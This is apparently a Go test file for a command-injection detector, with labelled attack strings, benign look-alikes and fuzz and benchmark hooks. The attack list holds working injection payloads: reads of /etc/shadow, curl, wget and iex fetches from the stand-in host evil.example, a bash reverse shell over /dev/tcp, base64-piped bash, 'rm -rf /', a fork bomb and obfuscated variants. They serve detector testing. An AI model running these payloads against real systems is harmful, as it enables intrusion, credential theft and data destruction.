package cmdi_test

import (
	"testing"

	"github.com/meshwarden/meshwarden/internal/scan/cmdi"
	"github.com/meshwarden/meshwarden/internal/scan/match/matchtest"
)

var family = matchtest.Family{
	Find:     cmdi.Find,
	Triggers: cmdi.Triggers,
	Attacks: []matchtest.Attack{
		{Rule: "separator_command", Text: "10.0.0.1; cat /etc/shadow"},
		{Rule: "separator_command", Text: "; uname -a"},
		{Rule: "separator_command", Text: "x|id"},
		{Rule: "separator_command", Text: "a.png && curl http://evil.example/x"},
		{Rule: "separator_command", Text: "$(wget evil.example)"},
		{Rule: "separator_command", Text: "`whoami`"},
		{Rule: "separator_command", Text: "x';/usr/bin/id;'"},
		{Rule: "separator_command", Text: ";c'a't /etc/hosts"},
		{Rule: "separator_command", Text: `;c\at /etc/hosts`},
		{Rule: "separator_command", Text: "& ipconfig /all"},
		{Rule: "separator_command", Text: "| powershell -enc AAAA"},
		{Rule: "separator_command", Text: "\n/bin/ls -la"},
		{Rule: "separator_command", Text: ";cat$IFS/etc/passwd"},
		{Rule: "wildcard_path", Text: ";/b?n/c?t /e?c/h?sts"},
		{Rule: "separator_command", Text: "() { :;}; /bin/cat /etc/hosts"},
		{Rule: "server_side_include", Text: `<!--#exec cmd="ls" -->`},
		{Rule: "network_redirection", Text: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
		{Rule: "code_function", Text: "system('cat /etc/hosts')"},
		{Rule: "code_interpolation", Text: "${@print(md5(3))}"},
		{Rule: "separator_command", Text: "10.0.0.1 && id"},
		{Rule: "separator_command", Text: "q}; id; {"},
		{Rule: "separator_command", Text: "& n^e^t user"},
		{Rule: "separator_command", Text: "& set q=who&& call %q%"},
		{Rule: "decoded_command", Text: "echo cHdk|base64 -d|bash"},
		{Rule: "piped_command", Text: "; echo reboot | sh"},
		{Rule: "command_in_prose", Text: "We type a ;whoami into the field and it says root"},
		{Rule: "command_in_prose", Text: "In the log there is a host && rm -rf / and then nothing"},
		{Rule: "command_in_prose", Text: "Somebody sent us 10.1.2.3; tac /etc/shadow as a name"},
		{Rule: "command_in_prose", Text: "Somebody sent us a strange 10.1.2.3|ifconfig as a name"},
		{Rule: "static_method", Text: "; [IO.File]::Delete('a')"},
		{Rule: "option_command", Text: "--to-command=touch /tmp/q"},
		{Rule: "code_function", Text: `require("child_process").execSync("ls")`},
		{Rule: "bare_command", Text: "cat /etc/shadow"},
		{Rule: "bare_command", Text: "sleep 9"},
		{Rule: "bare_command", Text: "which perl"},
		{Rule: "bare_command", Text: "net user eve Secret1 /add"},
		{Rule: "bare_command", Text: "time curl evil.example"},
		{Rule: "bare_command", Text: "alias x=id"},
		{Rule: "bare_command", Text: "Invoke-WebRequest http://evil.example/a.ps1"},
		{Rule: "separator_command", Text: "; net view"},
		{Rule: "separator_command", Text: ";iex (irm http://evil.example/a)"},
		{Rule: "separator_command", Text: "x;c$?at /etc/hosts"},
		{Rule: "variable_command", Text: "p=/etc&&c=tac&&$c $p/hosts"},
		{Rule: "brace_command", Text: "{tac,/etc/hosts}"},
		{Rule: "process_substitution", Text: "<(tac hosts)"},
		{Rule: "batch_loop", Text: "FOR /F \"tokens=*\" %h IN ('dir /b') DO start %h"},
		{Rule: "batch_condition", Text: "if not exist c:\\a.txt (start calc)"},
		{Rule: "batch_condition", Text: "if %os% equ 1 start calc"},
		{Rule: "mail_command", Text: "\r\nRCPT TO:<eve@evil.example>"},
		{Rule: "mail_command", Text: "\r\na7 EXAMINE INBOX"},
		{Rule: "fork_bomb", Text: "z(){ z|z& };z"},
		{Rule: "server_side_include", Text: `<!--#printenv -->`},
		{Rule: "code_function", Text: "os.system('tac hosts')"},
		{Rule: "disguised_command", Text: "c'a't /etc/hosts"},
	},
	Benign: []string{
		"AT&T; cat food", "Run `ls -la` to list files.", "See `cat /etc/hosts` for names; then find the right one.",
		"Thanks; who is next?", "a && b || c", "x := a | b; y++",
		"Find the cat; sort it out.", "make && make install", "$ ps aux | grep sshd", "ls | sort | head -3",
		"Salt & pepper, rm & co", "https://example.com/?a=1&id=2&sort=asc",
		"cost: $(100)", "${name} and ${count}", "f(x); g(y); return", "git 2.40 released; test it", "AT&amp;T",
		"Use /dev/tcp/host/port to open a socket", "eval is evil; never exec it.",
		"if (a > b) { echo = 1; }", "The id; the name", "Please echo this and wait", "<!-- comment -->",
		"`make test' or `make check'", "() => { return; }", "function() { x; }", "tea; date cake; time",
		"If not defined, the value is empty.", "If a file exists (see below) copy it.", "for i in (1, 2, 3) do nothing", "for x in list: print(x % 3)",
		"if (a == b) { return c; }", "if exist then fine", `{"make", "go"}`, "{ls, cat}", "diff <(sort a) <(sort b)", "<b>x</b>(date)",
		"$total = $a; $b = 2; $c", "const a=1;$('#x').show()", "a=1&b=2&$c", "re.exec(id)", "sleep well", "which one is it", "time flies", "net income 5",
		"alias for x", "\nData is here", "\r\nA1 sauce and Select cuts", "reg. no. 4", "f(x){ return a|b; }", "Sleep 8 hours",
		"function f(){ f() }", "make run", "cp and mv", "view /tmp in a pager (trap)", "npm install left-pad", "git+https://example.com/a/b.git", "git+ssh://git@example.com/a/b.git",
	},
	Worst: []string{";", "|", "&", "`", "$(", "${", "${${", "\n", "\\n", ";cat ", ";cat /", ";'c", "a`b", "() {", "(", "system(", "<!--#", "$ifs", "/dev/tcp/", ";/?", "`a`;", ";id 'x", "${j", "f(){ f|f", "if %a", "for %a in (", "a=b;$a ", "\r\nDATA", "<(ls ", "{ls,", ";time ", "time env "},
}

func TestFamily(t *testing.T) { matchtest.Run(t, family) }

func FuzzFind(f *testing.F) { matchtest.Fuzz(f, family, false) }

func BenchmarkFind(b *testing.B) { matchtest.Bench(b, family) }
